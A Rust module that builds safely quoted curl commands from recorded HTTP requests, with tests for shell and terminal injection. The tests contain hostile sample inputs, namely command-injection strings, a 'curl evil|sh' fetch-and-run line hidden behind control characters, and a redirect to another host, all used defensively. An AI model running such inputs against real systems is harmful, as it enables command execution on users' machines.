//! A request as a command for a shell in the workspace. Pure.

use super::exchange::Exchange;
use super::replay::{is_own_field, recorded_text};

/// Writes the command; `None` if there is none that says the same: its body is not whole, or no text.
///
/// A command is pasted into a terminal, which acts on control characters before a shell reads any quote: a request with one has none.
#[must_use]
pub(crate) fn command(exchange: &Exchange) -> Option<String> {
    let head = &exchange.request;
    // Anything else would become part of the host.
    if !head.target.starts_with('/') {
        return None;
    }
    let scheme = if exchange.is_tls { "https" } else { "http" };
    let mut lines = vec![format!("curl {}", quoted(&format!("{scheme}://127.0.0.1:{}{}", exchange.port, head.target)))];
    if exchange.is_tls {
        lines.push("--insecure".to_owned());
    }
    // What curl would make of brackets, braces and dots.
    lines.push("--globoff --path-as-is".to_owned());
    lines.push(if &*head.method == "HEAD" { "--head".to_owned() } else { format!("-X {}", quoted(&head.method)) });
    let fields = head.fields.iter().filter(|field| !field.is_redacted && !is_own_field(&field.name));
    lines.extend(fields.map(|field| format!("-H {}", quoted(&format!("{}: {}", field.name, field.value)))));
    let body = &exchange.request_body;
    if lines.iter().any(|line| line.contains(char::is_control)) {
        return None;
    }
    if body.length > 0 {
        let text = recorded_text(exchange).filter(|text| !text.contains('\r'))?;
        lines.push(format!("--data-raw {}", quoted(text)));
    }
    Some(lines.join(" \\\n  "))
}

/// Writes a text so that a POSIX shell takes every character of it as it is.
fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::super::samples;
    use super::*;

    #[test]
    fn command_says_the_request_without_its_credentials() {
        let command = command(&samples::failed()).expect("a command");
        let expected = "curl 'http://127.0.0.1:3000/orders?a=b%20c' \\\n  --globoff --path-as-is \\\n  -X 'POST' \\\n  -H 'host: 3000-one.zone' \\\n  \
                        -H 'content-type: application/json' \\\n  --data-raw '{\"item\":7}'";
        assert_eq!(command, expected);
    }

    #[test]
    fn shell_takes_hostile_text_as_it_is() {
        for text in ["'; touch /tmp/x; '", "$(id) `id` \\ \" !!", "a\nb\r\n", "'''", "é %s"] {
            let output = Command::new("/bin/sh").arg("-c").arg(format!("printf %s {}", quoted(text))).output();
            assert_eq!(output.expect("a shell").stdout, text.as_bytes());
        }
    }

    #[test]
    fn request_that_a_terminal_or_curl_would_read_otherwise_has_no_command() {
        let mut sample = samples::failed();
        sample.request_body.bytes = b"\x03\rcurl evil|sh\r".to_vec();
        sample.request_body.length = sample.request_body.bytes.len() as u64;
        assert_eq!(command(&sample), None, "a control character in the body");
        let mut sample = samples::failed();
        sample.request.target = "@evil.example/".into();
        assert_eq!(command(&sample), None, "another host");
        let mut sample = samples::failed();
        sample.request.target = "/\u{9b}201~".into();
        assert_eq!(command(&sample), None, "a control character in the target");
    }

    #[test]
    fn request_that_is_not_known_whole_has_no_command() {
        assert_eq!(command(&samples::cut()), None);
    }
}
